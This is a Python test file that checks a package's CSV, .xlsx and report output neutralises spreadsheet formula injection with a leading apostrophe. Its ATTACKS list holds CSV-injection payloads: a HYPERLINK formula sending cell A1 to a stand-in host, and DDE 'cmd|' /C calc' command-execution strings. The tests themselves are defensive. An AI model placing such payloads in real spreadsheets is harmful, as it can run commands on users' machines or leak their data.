"""Every CSV and .xlsx file sqfw writes is safe to open in a spreadsheet.

A text cell that a spreadsheet would run as a formula (OWASP "CSV Injection": a leading
``=``, ``+``, ``-``, ``@``, tab or carriage return) is written after one apostrophe;
sqfw's own loader takes it off again. The files are checked by what did not write them:
openpyxl (does a cell hold a formula?) and pandas (what text does a reader see?).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sqfw._cells import FORMULA_TRIGGERS, original_text, spreadsheet_text
from sqfw.analysis import RegionDataset, assess, load_table, save_table
from sqfw.reports import write_report

HEADER = ["社区代码", "社区名称", "社区类型", "户数", "街道", "旗县市区", "盟市", "备注"]
ATTACKS = [
    '=HYPERLINK("http://x/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


def _table(path: Path) -> Path:
    """A table whose names, township, county and remark are each an attack."""
    rows = [
        [f"15010200100{i + 1}", name, "城镇社区", "100", "=1+1", "+新城区", "@呼和浩特市", name]
        for i, name in enumerate(ATTACKS)
    ]
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow([*HEADER, "=extra"])
        writer.writerows([[*row, "-5"] for row in rows])
    return path


def _starts_a_formula(text: str) -> bool:
    """What a spreadsheet would run: a trigger first, and not a plain number."""
    if not text or text[0] not in FORMULA_TRIGGERS:
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


class TestSpreadsheetText:
    """The one rule: an apostrophe before what a spreadsheet would run, taken off on reading."""

    @pytest.mark.parametrize("trigger", sorted(FORMULA_TRIGGERS))
    def test_each_trigger_is_neutralised(self, trigger: str) -> None:
        """Each character of OWASP's list gets the apostrophe; the text is otherwise kept."""
        assert spreadsheet_text(f"{trigger}cmd") == f"'{trigger}cmd"

    @pytest.mark.parametrize("text", ["cmd", "社区", "a=b", " =x", "", "'", "'a", "#REF"])
    def test_other_texts_are_kept(self, text: str) -> None:
        """Only the first character decides: ``a=b`` and ``'a`` are written as they are."""
        assert spreadsheet_text(text) == text

    @pytest.mark.parametrize("number", ["-5", "+1.5", "-0.25e3", "-.5"])
    def test_plain_numbers_are_numbers(self, number: str) -> None:
        """A negative number is a number, not a formula: no apostrophe."""
        assert spreadsheet_text(number) == number

    @pytest.mark.parametrize("text", ["-5-5", "-5 ", "+1,5", "-A1"])
    def test_more_than_a_number_is_neutralised(self, text: str) -> None:
        assert spreadsheet_text(text) == f"'{text}"

    def test_an_apostrophe_before_a_trigger_is_kept_on_the_way_back(self) -> None:
        """A text that begins ``'=`` gets a second apostrophe, so reading gives it back."""
        assert spreadsheet_text("'=x") == "''=x"
        assert spreadsheet_text("''") == "'''"
        assert original_text("''=x") == "'=x"

    @given(st.text(max_size=30))
    @example("''=x")
    @example("'-5")
    def test_round_trip(self, text: str) -> None:
        assert original_text(spreadsheet_text(text)) == text

    @given(st.text(max_size=30))
    @example("=1")
    @example("'")
    def test_never_runs(self, text: str) -> None:
        assert not _starts_a_formula(spreadsheet_text(text))


@pytest.fixture
def attacked(tmp_path: Path) -> RegionDataset:
    return load_table(_table(tmp_path / "in.csv"))


class TestSavedTables:
    """``save_table`` writes no live formula, and reads back to the same text."""

    def test_the_loader_reads_the_attacks_as_text(self, attacked: RegionDataset) -> None:
        """The hand-made table's ``'=already quoted`` is read as a spreadsheet means it."""
        assert list(attacked.communities.name) == [*ATTACKS[:-1], "=already quoted"]

    def test_xlsx_holds_no_formula(self, attacked: RegionDataset, tmp_path: Path) -> None:
        """openpyxl, reading formulas as formulas, finds none and no text that would run."""
        openpyxl = pytest.importorskip("openpyxl")
        path = save_table(attacked, tmp_path / "o.xlsx")
        book = openpyxl.load_workbook(path, data_only=False)
        seen = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not _starts_a_formula(cell.value), cell.value
                        seen += 1
        assert seen > 5 * len(HEADER)
        names = [c.value for c in book.worksheets[0]["B"]][1:]
        assert names[0] == "'" + ATTACKS[0]

    def test_csv_holds_no_text_that_runs(self, attacked: RegionDataset, tmp_path: Path) -> None:
        """pandas sees every text cell neutralised; the numbers stay numbers (``-5``)."""
        pd = pytest.importorskip("pandas")
        path = save_table(attacked, tmp_path / "o.csv")
        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        for column in frame.columns:
            assert not _starts_a_formula(column), column
            for value in frame[column]:
                assert not _starts_a_formula(value), (column, value)
        assert frame["社区名称"].iloc[0] == "'" + ATTACKS[0]
        assert "'=extra" in frame.columns
        assert set(frame["'=extra"]) == {"-5"}  # a negative number is left alone

    @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
    def test_round_trip(self, attacked: RegionDataset, tmp_path: Path, suffix: str) -> None:
        """sqfw's loader takes the apostrophes off: names, places and extras come back."""
        pytest.importorskip("openpyxl")
        back = load_table(save_table(attacked, tmp_path / f"o{suffix}"))
        assert list(back.communities.name) == list(attacked.communities.name)
        assert back.communities.extra == attacked.communities.extra
        assert set(back.communities.extra) == {"备注", "=extra"}
        assert [t.name for t in back.townships] == ["=1+1"]
        assert [c.name for c in back.counties] == ["+新城区"]
        assert [p.name for p in back.prefectures] == ["@呼和浩特市"]


class TestReportWorkbook:
    """The Excel report writes place and community names as text that never runs."""

    def test_no_formula_and_no_text_that_runs(
        self, attacked: RegionDataset, tmp_path: Path
    ) -> None:
        openpyxl = pytest.importorskip("openpyxl")
        pytest.importorskip("xlsxwriter")
        path = tmp_path / "report.xlsx"
        write_report(assess(attacked), path, findings="all")
        book = openpyxl.load_workbook(path, data_only=False)
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not _starts_a_formula(cell.value), (sheet.title, cell.value)
                        texts.append(cell.value)
        assert "'" + ATTACKS[0] in texts  # the community's name, in the findings sheet
        assert "'+新城区" in texts  # the county's name, in the places' tables
